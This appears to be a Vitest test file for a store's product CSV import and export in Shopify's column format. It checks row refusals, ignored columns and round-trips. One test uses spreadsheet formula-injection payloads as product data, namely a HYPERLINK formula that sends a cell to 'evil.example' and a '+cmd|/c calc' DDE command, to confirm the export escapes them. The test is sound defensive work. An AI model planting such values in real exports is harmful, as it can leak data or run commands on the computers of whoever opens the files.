import { readFileSync } from 'node:fs';
import { CSV_HEADER, type Product } from '@agency/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyTemplate } from '../src/templates/queries.ts';
import { startTestServer, type TestServer } from './helpers.ts';

// CSV import and export of products, Shopify's columns (issue 24).
let server: TestServer;
let owner: Awaited<ReturnType<TestServer['user']>>;
const SHOPIFY = readFileSync(new URL('./fixtures/shopify-sample.csv', import.meta.url), 'utf8');
const newStore = async (name: string) => {
  const made = await server.call('POST', '/my/businesses', { token: owner.token, body: { name } });
  expect(made.status).toBe(201);
  return made.body.store as { id: string; slug: string };
};
const importCsv = (slug: string, csv: string, add_tags = false) =>
  server.call('POST', `/stores/${slug}/catalogue/import`, {
    token: owner.token,
    body: { csv, add_tags },
  });
const catalogue = async (slug: string) => {
  const page = await server.call('GET', `/stores/${slug}/products?per_page=100`, {
    token: owner.token,
  });
  const products: Product[] = [];
  for (const card of page.body.documents)
    products.push(
      (await server.call('GET', `/stores/${slug}/products/${card.slug}`, { token: owner.token }))
        .body,
    );
  // What makes the catalogue the same: everything a shopper or the store sees, not ids or times.
  return products.map((p) => ({
    slug: p.slug,
    name: p.name,
    description: p.description,
    details: p.details,
    delivery: p.delivery,
    tags: p.tags,
    status: p.status,
    price_suffix: p.price_suffix,
    track_stock: p.track_stock,
    mods: p.mods,
    media: p.media,
    variants: p.variants.map(({ mods, qty, price_kobo, compare_at_kobo, sku }) => ({
      mods,
      qty,
      price_kobo,
      compare_at_kobo,
      sku,
    })),
  }));
};

beforeAll(async () => {
  server = await startTestServer();
  owner = await server.user('owner', 'Titi Owner');
});
afterAll(() => server.stop());

describe('CSV import and export', () => {
  it("imports Shopify's sample: unsupported columns listed, other sites' pictures not fetched", async () => {
    const store = await newStore('Acme Lagos');
    const report = await importCsv(store.slug, SHOPIFY, true);
    expect(report.status).toBe(200);
    expect(report.body).toMatchObject({ rows: 5, created: 2, updated: 0, refused: [] });
    // The first 20 ignored columns are named, and all of them counted.
    expect(report.body.ignored_columns).toHaveLength(20);
    expect(report.body.ignored_columns).toEqual(
      expect.arrayContaining(['Vendor', 'Variant Barcode', 'Gift Card', 'Option1 Linked To']),
    );
    // Read, not ignored: the compare-at price, the SKU and the variant's picture.
    for (const column of ['Handle', 'Variant SKU', 'Variant Compare At Price', 'Variant Image'])
      expect(report.body.ignored_columns).not.toContain(column);
    expect(report.body.ignored_columns_count).toBe(23);
    expect(report.body.pictures_not_imported.map((p: { row: number }) => p.row)).toEqual([2, 5, 6]);
    expect(report.body.tags_added).toEqual(['mens t-shirt example', 'cotton', 'winter']);
    const [shirt, hat] = await catalogue(store.slug);
    expect(shirt).toMatchObject({
      name: 'Example T-Shirt',
      description: "Our softest tee & the one you'll wear most.",
      details: 'Pre-shrunk cotton.',
      status: 'active',
      media: [],
    });
    expect(shirt!.mods.map((m) => [m.key, m.type])).toEqual([
      ['size', 'list'],
      ['color', 'color'],
    ]);
    expect(shirt!.variants).toHaveLength(4);
    // Each variant keeps its compare-at price ("was") and its SKU; an empty compare-at is none.
    expect(shirt!.variants[3]).toEqual({
      mods: { size: 'Small', color: 'Navy' },
      qty: 5,
      price_kobo: 3199,
      compare_at_kobo: 3499,
      sku: 'example-shirt-s-n',
    });
    expect(hat).toMatchObject({ name: 'Example Hat', status: 'draft', mods: [] });
    expect(hat!.variants).toEqual([
      { mods: {}, qty: 25, price_kobo: 1900, compare_at_kobo: null, sku: 'example-hat-1' },
    ]);
    // A draft is not in the shop.
    const shop = await server.call('GET', `/stores/${store.slug}/products`);
    expect(shop.body.documents.map((c: { name: string }) => c.name)).toEqual(['Example T-Shirt']);
    const info = await server.call('GET', `/stores/${store.slug}`);
    expect(info.body.categories).toEqual([
      { name: 'Shirts', tags: ['mens t-shirt example', 'cotton'] },
      { name: 'Hats', tags: ['winter'] },
    ]);
  });

  it('refuses products whose tags are not categories unless asked to add them, and writes nothing', async () => {
    const store = await newStore('Strict Tags');
    const report = await importCsv(store.slug, SHOPIFY);
    expect(report.body.created).toBe(0);
    expect(report.body.refused).toEqual([
      {
        row: 2,
        handle: 'example-t-shirt',
        reason: expect.stringContaining(
          '"mens t-shirt example" is not one of the store\'s categories',
        ),
      },
      { row: 6, handle: 'example-hat', reason: expect.stringContaining('"winter"') },
    ]);
    expect(
      (await server.call('GET', `/stores/${store.slug}/products`, { token: owner.token })).body
        .total,
    ).toBe(0);
  });

  it('refuses a bad product whole, with its row and reason, and takes the good ones', async () => {
    const store = await newStore('Bad Rows');
    const header = 'Handle,Title,Option1 Name,Option1 Value,Variant Price,Variant Inventory Qty';
    const csv = [
      header,
      'good-one,Good One,Size,S,1000,3',
      'good-one,,,M,1200,2',
      'half-bad,Half Bad,Size,S,1000,1',
      'half-bad,,,M,lots,1',
      'no-title,,Size,S,500,1',
      'negative,Negative,,,-5,1',
      ',Orphan,,,100,1',
      'dup-variant,Dup,Size,S,100,1',
      'dup-variant,,,s,100,1',
      'no-value,No Value,Size,,100,1',
    ].join('\n');
    const report = await importCsv(store.slug, csv);
    expect(report.status).toBe(200);
    expect(report.body.created).toBe(1);
    expect(report.body.refused).toEqual([
      { row: 4, handle: 'half-bad', reason: 'Row 5: Variant Price "lots" is not a price' },
      { row: 6, handle: 'no-title', reason: "Row 6: a product's first row needs a Title" },
      { row: 7, handle: 'negative', reason: 'Row 7: Variant Price cannot be negative' },
      { row: 8, handle: '', reason: 'Row 8: Handle is empty' },
      { row: 9, handle: 'dup-variant', reason: 'Row 9: Two variants have the same choices' },
      { row: 11, handle: 'no-value', reason: 'Row 11: Size needs a value (Option1 Value)' },
    ]);
    // The import is in the audit log, with its counts (its price and stock changes are in them).
    const { rows: logged } = await server.db.query<{ details: object; actor_email: string }>(
      `SELECT details, actor_email FROM audit_events WHERE action = 'catalogue.imported' AND store_id = $1`,
      [store.id],
    );
    expect(logged).toEqual([
      { details: { created: 1, updated: 0, refused: 6 }, actor_email: owner.email },
    ]);
    const [only] = await catalogue(store.slug);
    expect(only).toMatchObject({
      slug: 'good-one',
      variants: [{ price_kobo: 100000 }, { price_kobo: 120000 }],
    });
  });

  it('refuses a file that is not a product CSV with 400 and a message', async () => {
    const store = await newStore('Not CSV');
    expect(await importCsv(store.slug, 'Name,Price\nx,1')).toMatchObject({
      status: 400,
      body: { message: 'The file has no Handle column' },
    });
    expect((await importCsv(store.slug, 'Handle,Title\n"unclosed,1')).status).toBe(400);
    expect((await importCsv(store.slug, '')).status).toBe(400);
  });

  it('refuses a header of more than 200 columns with 400, and names at most 20 ignored ones', async () => {
    const store = await newStore('Wide Files');
    const wide = [
      'Handle',
      'Title',
      'Variant Price',
      ...Array.from({ length: 198 }, (_, i) => `Extra ${i}`),
    ];
    const answer = await importCsv(store.slug, `${wide.join(',')}\nwide-one,Wide one,100`);
    expect(answer).toMatchObject({
      status: 400,
      body: {
        message:
          'The file has 201 columns; at most 200 can be read. Remove the columns you do not need and import it again.',
      },
    });
    const taken = await importCsv(
      store.slug,
      `${wide.slice(0, 200).join(',')}\nwide-one,Wide one,100`,
    );
    expect(taken.status).toBe(200);
    expect(taken.body.ignored_columns).toEqual(Array.from({ length: 20 }, (_, i) => `Extra ${i}`));
    expect(taken.body.ignored_columns_count).toBe(197);
  });

  it('exports text that starts like a formula with a quote before it, and imports it back as it was', async () => {
    const from = await newStore('Formula From');
    await server.call('PATCH', `/stores/${from.slug}`, {
      token: owner.token,
      body: { categories: [{ name: 'Tricky', tags: ['-minus', '@at'] }] },
    });
    const made = await server.call('POST', `/stores/${from.slug}/products`, {
      token: owner.token,
      body: {
        name: '=HYPERLINK("https://evil.example/?d="&B3,"Open")',
        description: '+cmd|/c calc!A0',
        tags: ['-minus', '@at'],
        mods: [
          {
            key: 'size',
            type: 'list',
            prompt: 'Choose a size',
            required: true,
            options: ['=1+1', "'=quoted", 'Plain'],
          },
        ],
        variants: [
          { mods: { size: '=1+1' }, qty: 2, price_kobo: 150_000 },
          { mods: { size: "'=quoted" }, qty: 0, price_kobo: 90_000 },
          { mods: { size: 'Plain' }, qty: 1, price_kobo: 100 },
        ],
      },
    });
    expect(made.status).toBe(201);
    const exported = await server.call('GET', `/stores/${from.slug}/catalogue/export`, {
      token: owner.token,
    });
    const cells = exported.body.csv.split('\n')[1];
    // No cell starts with = + - or @ for a spreadsheet to run; numbers are left as they are.
    expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&B3,""Open"")"`);
    expect(cells).toContain("'-minus, @at");
    expect(cells).toContain("'=1+1");
    expect(exported.body.csv).toContain("''=quoted");
    expect(cells).toContain(',1500.00,');
    const to = await newStore('Formula To');
    const report = await importCsv(to.slug, exported.body.csv, true);
    expect(report.body).toMatchObject({ created: 1, refused: [] });
    expect(await catalogue(to.slug)).toEqual(await catalogue(from.slug));
  });

  it('export then import into an empty store gives the same catalogue, drafts, made to order and categories too', async () => {
    const from = await newStore('Round Trip From');
    await applyTemplate(server.db, from.id, 'fashion');
    const [first, second] = (
      await server.call('GET', `/stores/${from.slug}/products`, { token: owner.token })
    ).body.documents;
    await server.call('PATCH', `/stores/${from.slug}/products/${first.id}`, {
      token: owner.token,
      body: { status: 'draft' },
    });
    const untracked = await server.call('PATCH', `/stores/${from.slug}/products/${second.id}`, {
      token: owner.token,
      body: { track_stock: false },
    });
    expect(untracked.body.track_stock).toBe(false);
    const exported = await server.call('GET', `/stores/${from.slug}/catalogue/export`, {
      token: owner.token,
    });
    expect(exported.status).toBe(200);
    expect(exported.body.products).toBe(8);
    expect(exported.body.csv.split('\n')[0]).toBe(CSV_HEADER.join(','));
    const to = await newStore('Round Trip To');
    const report = await importCsv(to.slug, exported.body.csv, true);
    expect(report.body).toMatchObject({
      created: 8,
      refused: [],
      ignored_columns: [],
      pictures_not_imported: [],
    });
    expect(await catalogue(to.slug)).toEqual(await catalogue(from.slug));
    const categories = async (slug: string) =>
      (await server.call('GET', `/stores/${slug}`)).body.categories
        .map((g: { name: string; tags: string[] }) => [g.name, [...g.tags].sort()])
        .sort((a: [string], b: [string]) => a[0].localeCompare(b[0]));
    // Only the tags items use travel with them.
    const used = new Set((await catalogue(from.slug)).flatMap((p) => p.tags));
    const fromGroups = (await categories(from.slug))
      .map(([name, tags]: [string, string[]]) => [name, tags.filter((t) => used.has(t))])
      .filter(([, tags]: [string, string[]]) => tags.length > 0);
    expect(await categories(to.slug)).toEqual(fromGroups);
    // Importing the same file again updates the same products (Handles), adds none.
    const again = await importCsv(to.slug, exported.body.csv, true);
    expect(again.body).toMatchObject({ created: 0, updated: 8 });
    expect(await catalogue(to.slug)).toEqual(await catalogue(from.slug));
  });

  it('keeps a compare-at price and a SKU through an edit that leaves them out and an export, and refuses a compare-at that is no price', async () => {
    const from = await newStore('Was Prices');
    const report = await importCsv(from.slug, SHOPIFY, true);
    expect(report.body).toMatchObject({ created: 2, refused: [] });
    const [shirt] = await catalogue(from.slug);
    // The item editor saves variants without them: each kept variant keeps its own.
    const full = (
      await server.call('GET', `/stores/${from.slug}/products/example-t-shirt`, {
        token: owner.token,
      })
    ).body as Product;
    const edited = await server.call('PATCH', `/stores/${from.slug}/products/${full.id}`, {
      token: owner.token,
      body: {
        variants: full.variants.map(({ id, mods, qty }) => ({ id, mods, qty, price_kobo: 2500 })),
        stock_version: full.stock_version,
      },
    });
    expect(edited.status).toBe(200);
    const after = (await catalogue(from.slug))[0]!;
    expect(after.variants.map((v) => [v.compare_at_kobo, v.sku])).toEqual(
      shirt!.variants.map((v) => [v.compare_at_kobo, v.sku]),
    );
    // The export writes them in Shopify's columns; an import into another store reads them back.
    const exported = await server.call('GET', `/stores/${from.slug}/catalogue/export`, {
      token: owner.token,
    });
    expect(exported.body.csv).toContain(',34.99,example-shirt-s-g,');
    const to = await newStore('Was Prices Copy');
    expect((await importCsv(to.slug, exported.body.csv, true)).body).toMatchObject({
      created: 2,
      refused: [],
      ignored_columns: [],
    });
    expect(await catalogue(to.slug)).toEqual(await catalogue(from.slug));
    // A compare-at price that is not a price refuses its product, naming the row and column.
    const bad = await importCsv(
      to.slug,
      'Handle,Title,Variant Price,Variant Compare At Price\nodd-one,Odd one,10,soon\n',
    );
    expect(bad.body.refused).toEqual([
      {
        row: 2,
        handle: 'odd-one',
        reason: 'Row 2: Variant Compare At Price "soon" is not a price',
      },
    ]);
  });
});
